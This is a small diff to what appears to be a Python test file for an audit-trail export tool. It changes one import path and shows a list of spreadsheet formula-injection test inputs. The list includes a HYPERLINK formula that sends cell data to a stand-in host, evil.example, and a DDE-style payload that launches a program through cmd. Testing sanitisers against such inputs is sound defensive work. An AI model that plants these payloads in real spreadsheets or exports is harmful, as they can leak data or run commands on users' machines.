@@ -14,7 +14,7 @@ import pytest
 from audit.outputs import spreadsheet_safe
 from audit.trail import Workspace, export_trail, verify_export
 from cli.main import main
-from records_helpers import digests
+from tests.records.records_helpers import digests
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0",
            "-2+3", "\tTAB", "\rCR", "plain text", "a=b", " =not at start"]
